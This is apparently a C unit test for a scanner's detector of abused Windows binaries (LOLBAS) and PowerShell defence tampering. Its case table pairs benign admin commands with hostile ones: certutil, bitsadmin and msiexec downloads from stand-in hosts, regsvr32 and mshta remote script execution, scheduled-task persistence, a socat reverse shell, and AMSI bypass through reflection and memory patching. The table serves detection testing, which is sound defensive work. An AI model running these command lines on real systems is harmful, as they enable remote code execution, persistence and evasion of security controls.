/*
 * test_lolbas - LOLBAS command lines (heur/lolbas.c with the shipped rules/lists/lolbas.conf,
 *               the table loader core/cmdtab.c) and PowerShell defence tampering
 *               (heur/tamper.c); scored with the shipped rules/scoring.conf and its chains
 *
 * Table-driven: each case is a script text and the LOLBIN_* symbols it must (and must
 * not) produce; every failing case is printed before the test fails. Runs from the
 * repository root (make unit).
 */
#include <setjmp.h> /* setjmp.h, stdarg.h and stddef.h must precede cmocka.h */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>

#include "core/cmdtab.h"
#include "core/lists.h"
#include "heur/lolbas.h"
#include "heur/tamper.h"
#include "lib/buf.h"
#include "lib/xalloc.h"
#include "model/hit.h"
#include "testhits.h"
#include "policy/chain.h"

#define NELEM(a) (sizeof(a) / sizeof((a)[0]))

static LISTS *lists;

static int setup(void **state)
{
    (void)state;
    BUF *err = buf_new(64);
    lists = lists_load("rules/lists", err);
    if (lists == NULL)
        fprintf(stderr, "rules/lists: %s\n", err->data);
    buf_free(err);
    return lists ? 0 : -1;
}

static int teardown(void **state)
{
    (void)state;
    lists = lists_free(lists);
    return 0;
}

/* run - the hits of heur_lolbas and heur_tamper (as lang) over text */
static HITS *run(const char *lang, const char *text)
{
    HITS *h = hits_new();
    HEUR_CTX c = {.hits = h, .location = "2/a.cmd", .lists = lists};
    heur_lolbas(&c, (const unsigned char *)text, strlen(text));
    heur_tamper(&c, lang, (const unsigned char *)text, strlen(text));
    return h;
}

/* score - the message score of h under the shipped rules and chains */
static double score(HITS *h)
{
    BUF *err = buf_new(64);
    SCORES *s = scores_load("rules/scoring.conf", err);
    buf_free(err);
    assert_non_null(s);
    SCORE_CTX ctx = {.alone_max = 4, .mention_max = 1};
    double sum = score_message(s, h, &ctx);
    scores_free(s);
    return sum;
}

static const struct {
    const char *text, *want, *not ; /* symbols; "" for none */
    bool quarantine;                /* the shipped chains reach 10 */
} CASES[] = {
    {"certutil.exe -urlcache -split -f https://example.invalid/a.exe a.exe\r\n", "LOLBIN_DOWNLOAD",
     "LOLBIN_DECODE", true},
    {"\"C:\\Windows\\System32\\certutil.exe\" -decode in.b64 out.exe", "LOLBIN_DECODE",
     "LOLBIN_DOWNLOAD", false},
    {"certutil -hashfile setup.exe SHA256", "", "LOLBIN_DOWNLOAD LOLBIN_DECODE", false},
    {"bitsadmin /transfer job /download /priority normal http://example.invalid/a.exe "
     "%TEMP%\\a.exe",
     "LOLBIN_DOWNLOAD", "LOLBIN_PERSIST", true},
    {"bitsadmin /list /allusers", "", "LOLBIN_DOWNLOAD LOLBIN_PERSIST", false},
    {"regsvr32 /s /n /u /i:https://example.invalid/f.sct scrobj.dll",
     "LOLBIN_REMOTE_EXEC LOLBIN_PROXY_EXEC", "", true},
    {"regsvr32 /s \"%ProgramFiles%\\Vendor\\vendor.dll\"", "",
     "LOLBIN_REMOTE_EXEC LOLBIN_PROXY_EXEC", false},
    {"mshta.exe javascript:a=GetObject(\"script:https://example.invalid/x.sct\").Exec();close();",
     "LOLBIN_PROXY_EXEC", "", true},
    {"mshta vbscript:Close(Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"calc\"\"\"))",
     "LOLBIN_PROXY_EXEC", "", true},
    {"rundll32.exe url.dll,OpenURL C:\\Users\\x\\a.hta", "LOLBIN_PROXY_EXEC", "", true},
    {"rundll32 printui.dll,PrintUIEntry /in /n \\\\printsrv\\hp", "", "LOLBIN_PROXY_EXEC", false},
    {"msiexec /q /i http://example.invalid/a.msi", "LOLBIN_REMOTE_EXEC", "", true},
    {"msiexec /i \"%~dp0setup.msi\" /qn /norestart", "", "LOLBIN_REMOTE_EXEC LOLBIN_PROXY_EXEC",
     false},
    {"wmic process call create \"calc.exe\"", "LOLBIN_PROXY_EXEC", "", true},
    {"wmic os get brief /format:\"https://example.invalid/a.xsl\"", "LOLBIN_REMOTE_EXEC", "", true},
    {"wmic logicaldisk get size,freespace /format:csv", "", "LOLBIN_PROXY_EXEC LOLBIN_REMOTE_EXEC",
     false},
    {"forfiles /p c:\\windows\\system32 /m notepad.exe /c calc.exe", "LOLBIN_PROXY_EXEC", "", true},
    {"forfiles /p C:\\logs /s /m *.log /d -30 /c \"cmd /c del @path\"", "", "LOLBIN_PROXY_EXEC",
     false},
    {"cmstp.exe /ni /s c:\\users\\x\\a.inf", "LOLBIN_PROXY_EXEC", "", true},
    {"odbcconf /a {REGSVR c:\\users\\x\\a.dll}", "LOLBIN_PROXY_EXEC", "", true},
    {"pcalua.exe -a c:\\users\\x\\a.exe", "LOLBIN_PROXY_EXEC", "", true},
    {"InstallUtil.exe /logfile= /LogToConsole=false /U c:\\users\\x\\a.dll", "LOLBIN_PROXY_EXEC",
     "", true},
    {"regasm.exe /U c:\\users\\x\\a.dll", "LOLBIN_PROXY_EXEC", "", true},
    {"msbuild.exe c:\\users\\x\\notes.xml", "LOLBIN_PROXY_EXEC", "", true},
    {"msbuild Project.sln /t:Build /p:Configuration=Release", "", "LOLBIN_PROXY_EXEC", false},
    {"esentutl.exe /y \\\\host\\share\\a.exe /d c:\\users\\x\\a.exe /o", "LOLBIN_DOWNLOAD", "",
     true},
    {"expand \\\\host\\share\\a.bat c:\\users\\x\\a.bat", "LOLBIN_DOWNLOAD", "", true},
    {"hh.exe https://example.invalid/a.chm", "LOLBIN_REMOTE_EXEC", "", true},
    {"wscript //e:vbscript c:\\users\\x\\file.txt:script.vbs", "LOLBIN_PROXY_EXEC", "", true},
    {"cscript //nologo C:\\scripts\\report.vbs", "", "LOLBIN_PROXY_EXEC", false},
    {"bitsadmin /SetNotifyCmdLine 1 c:\\x\\a.exe NULL", "LOLBIN_PERSIST", "", true},
    /* execution chains in one command; the admin forms beside them stay quiet */
    {"rundll32.exe dfshim.dll,ShOpenVerbApplication https://example.invalid/app.application",
     "LOLBIN_REMOTE_EXEC", "", true},
    {"start ms-appinstaller://?source=https://example.invalid/a.msixbundle", "LOLBIN_REMOTE_EXEC",
     "", true},
    {"schtasks /create /sc minute /mo 1 /tn upd /tr \"c:\\users\\x\\a.exe\"", "LOLBIN_PERSIST", "",
     true},
    {"schtasks /create /s host2 /tn t /tr c:\\x\\a.exe /sc daily", "LOLBIN_PERSIST", "", true},
    {"schtasks /create /tn Backup /tr C:\\Tools\\backup.cmd /sc daily /st 02:00", "",
     "LOLBIN_PERSIST", false},
    {"schtasks /query /fo list /tn \\Microsoft\\Windows\\Defrag", "", "LOLBIN_PERSIST", false},
    {"bash.exe -c \"socat tcp-connect:10.0.0.9:66 exec:sh,pty,stderr\"", "LOLBIN_REMOTE_EXEC", "",
     true},
    {"bash -c \"make -j4 && ./configure --prefix=/usr\"", "", "LOLBIN_REMOTE_EXEC", false},
    {"set windir=c:\\users\\x& cd \"C:\\Program Files\\Internet Explorer\\\" & iediagcmd.exe "
     "/out:a.cab",
     "LOLBIN_PROXY_EXEC", "", true},
    {"set PATH=%PATH%;C:\\Tools\r\nset JAVA_HOME=C:\\jdk", "", "LOLBIN_PROXY_EXEC", false},
    {"\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge_proxy.exe\" "
     "--disable-gpu-sandbox --gpu-launcher=\"cmd /c calc &&\"",
     "LOLBIN_PROXY_EXEC", "", true},
    {"findstr /V /L xyz \\\\host\\share\\a.exe > c:\\users\\x\\a.exe", "LOLBIN_DOWNLOAD", "", true},
    {"findstr /i error \\\\logsrv\\logs\\app.log > errors.txt", "", "LOLBIN_DOWNLOAD", false},
    /* comments, prose, other languages' words */
    {"rem certutil -urlcache -f http://example.invalid/a.exe a.exe\r\n", "", "LOLBIN_DOWNLOAD",
     false},
    {":: mshta javascript:alert(1)\n# regsvr32 /i:http://x scrobj.dll", "",
     "LOLBIN_PROXY_EXEC LOLBIN_REMOTE_EXEC", false},
    {"$s = $s -replace 'a', 'b'; $t.replace(\"\\\\host\\x\", '')", "", "LOLBIN_DOWNLOAD", false},
    {"Start-Process ping -ArgumentList 127.0.0.1:80", "", "LOLBIN_ADS", false},
    /* PowerShell tampering */
    {"$a=[AppDomain]::CurrentDomain.GetAssemblies()|?{$_}; $f=$t.GetFields([System.Reflection."
     "BindingFlags]40); $f.SetValue($null,(New-Object Collections.Generic.HashSet[string]))",
     "PS_REFLECTION_TAMPER", "", true},
    {"[Ref].Assembly.GetType('System.Management.Automation.'+$x).GetField($y,'NonPublic,Static')"
     ".SetValue($null,$true)",
     "PS_REFLECTION_TAMPER", "", true},
    {"$p=[Win32]::VirtualProtect($addr,[uint32]5,0x40,[ref]$old); # AmsiScanBuffer patch",
     "PS_MEMORY_PATCH", "", true},
    {"$o.GetType().GetField('Name').SetValue($o, 'x'); Get-NetAdapter # network", "",
     "PS_REFLECTION_TAMPER PS_MEMORY_PATCH PS_LOGGING_TAMPER", false},
    {"Set-ItemProperty HKLM:\\Software\\Policies\\Microsoft\\Windows\\PowerShell\\"
     "ScriptBlockLogging -Name EnableScriptBlockLogging -Value 1",
     "PS_LOGGING_TAMPER", "PS_REFLECTION_TAMPER", false},
};

static void test_shipped_table(void **state)
{
    (void)state;
    int bad = 0;
    for (size_t i = 0; i < NELEM(CASES); i++) {
        HITS *h = run("ps1", CASES[i].text);
        BUF *why = buf_new(64);
        bool ok = hits_has_all(h, CASES[i].want, true, why);
        ok = hits_has_all(h, CASES[i].not, false, why) && ok; /* both report what is wrong */
        double sc = score(h);
        if ((sc >= 10) != CASES[i].quarantine) {
            buf_printf(why, " score %.1f", sc);
            ok = false;
        }
        if (!ok) {
            fprintf(stderr, "case %zu '%.60s':%s\n", i, CASES[i].text, why->data);
            bad++;
        }
        buf_free(why);
        hits_free(h);
    }
    assert_int_equal(bad, 0);
}

static void test_split(void **state)
{
    (void)state;
    LOLBAS_ARGS a;
    const char *s = " /c \"cmd /c  calc\" ^/s 'x y'&next";
    size_t used = lolbas_split(s, strlen(s), &a);
    assert_int_equal(a.n, 4);
    assert_string_equal(a.v[0], "/c");
    assert_string_equal(a.v[1], "cmd /c  calc");
    assert_string_equal(a.v[2], "/s");
    assert_string_equal(a.v[3], "x y");
    assert_int_equal(s[used], '&');
    /* the argument count and length are bounded */
    BUF *b = buf_new(64);
    for (int i = 0; i < 100; i++)
        buf_printf(b, " arg%d", i);
    lolbas_split(b->data, b->len, &a);
    assert_int_equal(a.n, LOLBAS_MAX_ARGS);
    buf_free(b);
}

/* write_file - a file in dir with text */
static char *write_file(const char *dir, const char *name, const char *text)
{
    char *p = xasprintf("%s/%s", dir, name);
    FILE *f = fopen(p, "w");
    assert_non_null(f);
    fputs(text, f);
    fclose(f);
    return p;
}

static void test_table_errors(void **state)
{
    (void)state;
    char tmpl[] = "/tmp/fm-test-lolbas-XXXXXX";
    assert_non_null(mkdtemp(tmpl));
    static const struct {
        const char *text, *error; /* NULL: loads */
    } T[] = {
        {"# only a comment\n\n", NULL},
        {"certutil LOLBIN_DOWNLOAD -urlcache url\n", NULL},
        {"certutil LOLBIN_NOPE -urlcache\n", ":1: unknown symbol"},
        {"certutil LOLBIN_DOWNLOAD\n", ":1: want BINARY"},
        {"x\ncertutil LOLBIN_DOWNLOAD bogus\n", ":1: want BINARY"},
        {"certutil LOLBIN_DOWNLOAD -a|\n", ":1: bad condition"},
        {"Certutil.exe LOLBIN_DOWNLOAD url\n", ":1: binary"},
        /* CMDTAB_MAX_CONDS (8) conditions load; a ninth is an error, not a write past cond[] */
        {"certutil LOLBIN_DOWNLOAD -a -b -c -d -e -f -g url\n", NULL},
        {"certutil LOLBIN_DOWNLOAD -a -b -c -d -e -f -g -h url\n", ":1: too many conditions"},
        {"certutil LOLBIN_DOWNLOAD -a -b -c -d -e -f -g -h -i url\n", ":1: too many conditions"},
    };
    for (size_t i = 0; i < NELEM(T); i++) {
        char *p = write_file(tmpl, "lolbas.conf", T[i].text);
        BUF *err = buf_new(64);
        CMDTAB *t = cmdtab_load(p, err);
        if (T[i].error == NULL) {
            assert_non_null(t);
        } else {
            assert_null(t);
            if (strstr(err->data, T[i].error) == NULL)
                fail_msg("case %zu: '%s' lacks '%s'", i, err->data, T[i].error);
        }
        cmdtab_free(t);
        buf_free(err);
        unlink(p);
        free(p);
    }
    /* a missing file is an empty table */
    char *missing = xasprintf("%s/none.conf", tmpl);
    CMDTAB *t = cmdtab_load(missing, NULL);
    size_t count = 9;
    assert_non_null(t);
    assert_null(cmdtab_rules(t, "certutil", 8, &count));
    assert_int_equal(count, 0);
    cmdtab_free(t);
    free(missing);
    rmdir(tmpl);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_shipped_table),
        cmocka_unit_test(test_split),
        cmocka_unit_test(test_table_errors),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
